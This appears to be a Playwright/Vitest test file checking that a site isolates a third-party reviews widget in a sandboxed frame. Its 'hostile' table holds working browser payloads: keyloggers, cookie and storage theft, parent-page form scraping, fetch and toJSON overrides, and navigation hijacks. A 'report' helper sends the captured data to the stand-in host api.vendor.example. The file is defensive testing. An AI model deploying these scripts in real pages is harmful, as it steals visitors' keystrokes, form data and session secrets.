/**
 * The reviews widget of a vendor, in a site that was built with one. The vendor is imitated: an honest one that needs what real ones
 * need, and others that try everything against the page around them.
 */
import { copyFileSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Frame, Page, Route } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { ReviewsWidget } from '../../data/collections/reviewsWidget.ts';
import { loadSite } from '../../data/load.ts';
import { routes } from '../../data/routes.ts';
import { build, copyRepository, editData, remove } from '../site/copy.ts';
import { testBrowser } from './browser.ts';
import { atAPersonsPace, awake, formOf, submit, testProduct } from './product.ts';

const vendor = {
  script: 'https://static.vendor.example/widget.js',
  scriptAttributes: { 'data-key': 'k1' },
  container: { class: 'vendor-reviews', 'data-options': '{"stars":5}' },
  init: 'Vendor.draw',
  hosts: {
    styles: ['https://styles.vendor.example'],
    fonts: ['https://fonts.vendor.example'],
    images: ['https://pictures.vendor.example'],
    connections: ['https://api.vendor.example'],
    frames: ['https://frames.vendor.example'],
  },
} satisfies ReviewsWidget;
const kinds = ['static', 'styles', 'fonts', 'pictures', 'api', 'frames'];
const mayAsk = kinds.map((kind) => `${kind}.vendor.example`);

let root = '';
beforeAll(async () => {
  root = copyRepository();
  copyFileSync('netlify.toml', join(root, 'netlify.toml'));
  editData(root, 'business', (business) => Object.assign(business, { reviewsWidget: vendor }));
  expect(await build(root)).toMatchObject({ failed: false });
});
afterAll(() => remove(root));

const product = testProduct(() => root);
const open = testBrowser(product.origin, { popupBlocker: true });
const { pages } = loadSite();
const copy = pages.reviews.widget;

/** What the vendor's hosts were asked: the address, and what was sent. */
type Asked = string[];

const font = readFileSync(
  'node_modules/@fontsource-variable/archivo/files/archivo-latin-standard-normal.woff2',
);
const picture =
  '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><circle cx="20" cy="20" r="20"/></svg>';
const styles = `@font-face { font-family: Vendor; src: url(https://fonts.vendor.example/a.woff2) }
.vendor-reviews { font: 20px Vendor; } .vendor-reviews p { height: 150px; margin: 0 }`;

/** Answers for all of the vendor's hosts. */
async function serveVendor(page: Page, script: string, asked: Asked = []): Promise<void> {
  const answers: Record<string, Parameters<Route['fulfill']>[0]> = {
    static: { contentType: 'text/javascript', body: script },
    styles: { contentType: 'text/css', body: styles },
    fonts: { contentType: 'font/woff2', body: font },
    pictures: { contentType: 'image/svg+xml', body: picture },
    api: {
      json: [
        { name: 'Ann', text: 'They came.' },
        { name: 'Bob', text: 'It opened.' },
      ],
    },
    frames: { contentType: 'text/html', body: '<p>4.9 of 5</p>' },
  };
  await page.route(/\.vendor\.example\//, async (route) => {
    const request = route.request();
    asked.push(`${request.url()} ${request.postData() ?? ''}`);
    const [kind = ''] = new URL(request.url()).host.split('.');
    await route.fulfill({ ...answers[kind], headers: { 'access-control-allow-origin': '*' } });
  });
}

/** What a vendor's page of instructions has a site paste, and what that then does. */
const honest = `
  const script = document.currentScript;
  const sheet = document.createElement('link');
  sheet.rel = 'stylesheet'; sheet.href = 'https://styles.vendor.example/a.css';
  document.head.append(sheet);
  const box = document.querySelector('.vendor-reviews');
  const { stars } = JSON.parse(box.dataset.options);
  window.Vendor = { draw() { box.dataset.drawn = 'again'; } };
  document.addEventListener('reviews:reinit', () => { box.dataset.told = 'yes'; });
  (async () => {
    const answer = await fetch('https://api.vendor.example/reviews?key=' + script.dataset.key);
    const reviews = await answer.json();
    await new Promise((done) => { sheet.sheet ? done() : sheet.onload = done; });
    for (const { name, text } of reviews) {
      const review = document.createElement('p');
      review.innerHTML = '<img alt="" src="https://pictures.vendor.example/' + name + '.svg" style="border-radius: 50%">';
      review.append(stars + ' stars: ' + text);
      box.append(review);
    }
    const badge = document.createElement('iframe');
    badge.src = 'https://frames.vendor.example/badge';
    badge.height = 100;
    box.append(badge);
  })();`;

const theFrame = (page: Page) => page.locator('[data-island=reviews] iframe');

/** Until the frame is there; a visitor who scrolls brings it. */
async function scrollToReviews(page: Page): Promise<void> {
  await page.locator('[data-island=reviews]').scrollIntoViewIfNeeded();
  await theFrame(page).waitFor();
}

/** The frame, once its page is there. */
async function frameOf(page: Page): Promise<Frame> {
  const element = await theFrame(page).elementHandle();
  const frame = await element?.contentFrame();
  if (!frame) throw new Error('The page has no frame with the reviews');
  await frame.waitForURL(`**${routes.reviewsWidget}`);
  return frame;
}

describe('a vendor that needs markup, styles, fonts, pictures, a frame and an API of other hosts', () => {
  test.each([360, 1280])('is shown in a frame as high as its reviews, at %d px', async (width) => {
    const asked: Asked = [];
    const page = await open('/reviews', {
      mayAsk,
      viewport: { width, height: 740 },
      before: (page) => serveVendor(page, honest, asked),
    });
    expect(asked, 'before the widget is near').toEqual([]);
    await scrollToReviews(page);
    await page.getByText(copy.loaded).waitFor();
    expect(await page.getByText(copy.loading).isVisible()).toBe(false);
    const frame = await frameOf(page);
    await frame.getByText('5 stars: It opened.').waitFor();
    await expect.poll(async () => (await theFrame(page).boundingBox())?.height).toBeGreaterThan(400);
    expect(await frame.evaluate(() => document.fonts.check('20px Vendor'))).toBe(true);
    expect(
      await frame.evaluate(() => getComputedStyle(document.images[0] ?? document.body).borderRadius),
    ).toBe('50%');
    expect(new Set(asked.map((line) => new URL(line.split(' ')[0] ?? '').host))).toEqual(new Set(mayAsk));
    expect(asked.join()).toContain('key=k1');
  });
});

describe('the frame', () => {
  const loading = { mayAsk, reducedMotion: 'reduce' } as const;

  test('is told half a second later that the page is shown', async () => {
    const page = await open('/reviews', { ...loading, before: (page) => serveVendor(page, honest) });
    await scrollToReviews(page);
    await (await frameOf(page)).locator('[data-drawn=again][data-told=yes]').waitFor();
  });

  test('a fault of the vendor then is only logged', async () => {
    const faulty = `${honest} window.Vendor.draw = () => { throw new Error('broken'); };`;
    const page = await open('/reviews', { ...loading, before: (page) => serveVendor(page, faulty) });
    const logged = page.waitForEvent('console', (message) => message.text().includes('not re-initialized'));
    await scrollToReviews(page);
    expect((await logged).type()).toBe('warning');
    expect(await page.getByText(copy.loaded).isVisible()).toBe(true);
  });

  test('where the script cannot be had, both notices lead to the three platforms', async () => {
    const page = await open('/reviews', {
      ...loading,
      expectErrors: /ERR_FAILED/,
      before: (page) => page.route(vendor.script, (route) => route.abort()),
    });
    await scrollToReviews(page).catch(() => {});
    await page.getByText('Reviews Widget Error').waitFor();
    await page
      .getByText(
        'There was an error loading our reviews widget. Please view our reviews directly on the platforms below.',
      )
      .waitFor();
    await page.getByText('There was an issue loading our reviews widget').waitFor();
    expect(await page.getByRole('alert').getByRole('link').count()).toBe(6);
    expect(await theFrame(page).count()).toBe(0);
  });

  test('where the script shows nothing, the page does not say "loaded", and gives up after 15 seconds', async () => {
    const asked: Asked = [];
    const page = await open('/reviews', {
      ...loading,
      before: async (page) => {
        await page.clock.install();
        await serveVendor(page, `fetch('https://api.vendor.example/runs')`, asked);
      },
    });
    await scrollToReviews(page);
    await expect.poll(() => asked.join()).toContain('/runs');
    await page.clock.runFor(14_000);
    expect(await page.getByText(copy.loading).isVisible()).toBe(true);
    expect(await page.getByText(copy.loaded).isVisible()).toBe(false);
    await page.clock.runFor(2000);
    await page.getByText('Reviews Widget Error').waitFor();
  });

  test('heights that are none have no effect, and none is higher than 4000 px or lower than 200', async () => {
    const page = await open('/reviews', { ...loading, before: (page) => serveVendor(page, '') });
    await scrollToReviews(page);
    const frame = await frameOf(page);
    const tell = (messages: string) =>
      frame.evaluate(`for (const message of ${messages}) parent.postMessage(message, '*')`);
    const heightOf = async () => (await theFrame(page).boundingBox())?.height;
    await tell(
      `[-1, 0, NaN, -Infinity, Infinity, '900', [900], { height: 900 }, null, true, 'loaded', 900n]`,
    );
    await tell('[1e9]');
    await expect.poll(heightOf).toBe(4000);
    await tell('[3]');
    await expect.poll(heightOf).toBe(200);
    await page.evaluate(() => postMessage(900, '*'));
    await page.evaluate(
      `Object.assign(document.body.appendChild(document.createElement('iframe')), { name: 'other' })`,
    );
    await page.frame('other')?.evaluate(`parent.postMessage(900, '*')`);
    await tell('[350]');
    await expect.poll(heightOf).toBe(350);
  });

  test('a height that is none does not make it "loaded"', async () => {
    const page = await open('/reviews', { ...loading, before: (page) => serveVendor(page, '') });
    await scrollToReviews(page);
    const frame = await frameOf(page);
    await frame.evaluate(
      `for (const message of [-1, NaN, '900', [900], 'loaded']) parent.postMessage(message, '*')`,
    );
    await frame.evaluate(() => new Promise((done) => setTimeout(done)));
    expect(await page.getByText(copy.loading).isVisible()).toBe(true);
  });

  test('a visitor gets from a field into it', async () => {
    const page = await open('/', { ...loading, before: (page) => serveVendor(page, honest) });
    await scrollToReviews(page);
    await page.getByText(copy.loaded).waitFor();
    const name = formOf(page, 'emergency').getByLabel('Name');
    await name.focus();
    const review = page.frameLocator('[data-island=reviews] iframe').getByText('It opened.');
    const at = await review.boundingBox();
    if (!at) throw new Error('The review is not on the screen');
    await page.mouse.click(at.x + 5, at.y + 5);
    expect(await name.evaluate((field) => field === document.activeElement)).toBe(false);
    await review.click();
    expect(await theFrame(page).evaluate((frame) => frame === document.activeElement)).toBe(true);
    expect(await page.getByText(copy.loaded).isVisible()).toBe(true);
  });

  test('opened alone it is as closed in: without an origin, and not for search engines', async () => {
    const page = await open(routes.reviewsWidget, {
      mayAsk,
      loadsEntry: false,
      before: (page) => serveVendor(page, ''),
    });
    expect(await page.evaluate(() => origin)).toBe('null');
    expect(await page.locator('meta[name=robots]').getAttribute('content')).toBe('noindex');
    const around = await page.request.get(`${product.origin()}/reviews`);
    expect(around.headers()['content-security-policy']).toContain("frame-src 'self'");
    expect(around.headers()['content-security-policy']).not.toContain('vendor');
    expect(around.headers()['x-frame-options']).toBe('DENY');
    const sitemap = await page.request.get(`${product.origin()}${routes.sitemap}`);
    expect(await sitemap.text()).not.toContain(routes.reviewsWidget);
  });
});

/** Each begins by saying that it runs; `report` sends what it has got hold of to its own host, which it may. */
const hostile: Record<string, string> = {
  'loops without end': `setTimeout(() => { for (;;); }, 50);`,
  'covers the whole page': `
    const cover = document.createElement('div');
    cover.style = 'position:fixed; inset:-5000px; z-index:2147483647; background:red; height:100000px; width:100000px';
    document.body.append(cover);
    document.documentElement.style = 'height:100000px; width:100000px';`,
  'leads the page elsewhere': `
    every(() => { top.location = 'https://api.vendor.example/elsewhere'; });
    every(() => { open('https://api.vendor.example/elsewhere', '_top'); });
    every(() => { Object.assign(document.createElement('a'), { href: 'https://api.vendor.example/', target: '_parent' }).click(); });
    every(() => { parent.location.replace('javascript:fetch("https://api.vendor.example/")'); });`,
  'goes back in the history': `every(() => history.back()); every(() => history.go(-1));`,
  'leads its own frame elsewhere': `
    setTimeout(() => { location = 'https://api.vendor.example/elsewhere'; }, 300);
    setTimeout(() => { location = '/'; }, 600);`,
  'removes the body': `document.body.remove(); document.documentElement.remove();`,
  'overrides what a form sends with': `
    const spy = (...what) => { report(JSON.stringify(what)); return new Promise(() => {}); };
    for (const one of [window, parent, top]) every(() => { one.fetch = spy; one.XMLHttpRequest = spy; one.navigator.sendBeacon = spy; });
    Object.prototype.toJSON = function () { report(Object.values(this)); return {}; };
    HTMLFormElement.prototype.submit = spy; EventTarget.prototype.addEventListener = spy;`,
  'reads the page around it': `
    every(() => report(parent.document.body.innerText));
    every(() => report([...parent.document.querySelectorAll('input')].map(({ value }) => value)));
    every(() => report(parent['form-emergency'].innerHTML));
    every(() => report(parent.location.href));`,
  'floods the page with messages': `setInterval(() => { for (let i = 0; i < 2000; i++) parent.postMessage(i, '*'); }, 1);`,
  'opens windows and asks questions': `
    every(() => open('https://api.vendor.example/')); every(() => alert('!')); every(() => confirm('?'));
    every(() => prompt('Your phone?') && report('answered')); every(() => print());
    addEventListener('beforeunload', (event) => event.preventDefault());`,
  'listens to the keys': `
    for (const type of ['keydown', 'keypress', 'keyup', 'input', 'beforeinput', 'paste'])
      for (const one of [window, parent, top, document])
        try { one.addEventListener(type, (event) => report(event.key ?? event.data), true); } catch {}`,
  'takes the focus': `
    const field = document.createElement('textarea');
    field.autofocus = true;
    document.body.append(field);
    addEventListener('keydown', ({ key }) => report(key), true);
    field.addEventListener('input', () => report(field.value));
    every(() => { window.focus(); field.focus(); });`,
  'scrolls the page to itself': `every(() => document.body.scrollIntoView({ block: 'center' }));`,
  'reads what the site has kept': `
    every(() => report(document.cookie)); every(() => report(JSON.stringify(localStorage)));
    every(() => report(JSON.stringify(sessionStorage)));
    every(() => indexedDB.open('leads').onerror); every(() => caches.open('leads').catch(() => {}));
    every(() => navigator.serviceWorker.register('/worker.js').catch(() => {}));`,
  'posts forms to its host': `
    const form = document.createElement('form');
    Object.assign(form, { method: 'post', action: 'https://api.vendor.example/form', target: '_top' });
    document.body.append(form);
    every(() => form.submit()); every(() => form.requestSubmit());
    every(() => Object.assign(form, { action: 'https://api.vendor.example/form', target: '' }));
    every(() => Object.assign(form, { action: '/api/lead', target: '' }));`,
  'takes the names of our things': `
    for (const id of ['form-emergency', 'quote', 'reviews', 'fetch', 'document', 'location', 'parent'])
      document.body.append(Object.assign(document.createElement('img'), { id, name: id }));
    window.name = 'form-emergency'; every(() => { history.pushState({}, '', '#form-emergency'); });`,
  'fills its memory': `window.kept = []; for (let i = 0; i < 20; i++) kept.push(new Uint8Array(1e7).fill(i));`,
};

const prelude = `
  const report = (text) => fetch('https://api.vendor.example/report', { method: 'POST', mode: 'no-cors', body: String(text) }).catch(() => {});
  const every = (act) => setInterval(() => { try { act(); } catch {} }, 5);
  report('it runs');`;

describe.each(Object.entries(hostile))('a vendor that %s', (deed, script) => {
  test('stops no request, and reads no letter of it', async () => {
    const asked: Asked = [];
    const page = await open('/', {
      mayAsk,
      reducedMotion: 'reduce',
      expectErrors: /.*/,
      before: async (page) => {
        await serveVendor(page, prelude + script, asked);
        await page.goto(`${product.origin()}/about`);
      },
    });
    const leftFor: string[] = [];
    page.on('framenavigated', (frame) => frame === page.mainFrame() && leftFor.push(frame.url()));
    await scrollToReviews(page);
    await expect.poll(() => asked.join()).toContain('it runs');
    await sendLead(page, async () => {
      // It has the focus for some milliseconds, until it is removed for that. No hand is on a key so soon after a press; a program is.
      if (deed === 'takes the focus') await theFrame(page).waitFor({ state: 'detached' });
    });
    expect(await product.rows()).toMatchObject([{ name: lead.Name, phone: '+13145550177' }]);
    expect(leftFor).toEqual([]);
    expect(page.context().pages()).toHaveLength(1);
    expect(keysIn(asked)).toEqual([]);
    const heights = await theFrame(page).evaluateAll((frames) =>
      frames.map(({ clientHeight }) => clientHeight),
    );
    expect(Math.max(0, ...heights)).toBeLessThanOrEqual(4000);
  });
});

const lead = { Name: 'Zyxwvut', Phone: '314-555-0177' };

/** What was reported that may be a letter, a digit or more of what the visitor typed. */
const keysIn = (asked: Asked) =>
  asked
    .map((line) => line.split('/report ')[1] ?? '')
    .filter(
      (text) => text !== 'it runs' && [...Object.values(lead).join('')].some((key) => text.includes(key)),
    );

/** By hand, key by key, as a visitor would. @param beforeKeys comes between the press on a field and the first key */
async function sendLead(page: Page, beforeKeys: () => Promise<void> = async () => {}): Promise<void> {
  const form = formOf(page, 'emergency');
  for (let turn = 0; turn < 12; turn += 1) await page.mouse.wheel(0, -200);
  await awake(form);
  for (const [label, value] of Object.entries(lead)) {
    await form.getByLabel(label).click();
    await beforeKeys();
    await page.keyboard.type(value, { delay: 20 });
    expect(await form.getByLabel(label).inputValue()).toBe(value);
  }
  await form.getByLabel('Service').selectOption({ label: 'Other Emergency' });
  await atAPersonsPace(page);
  await submit(form);
}
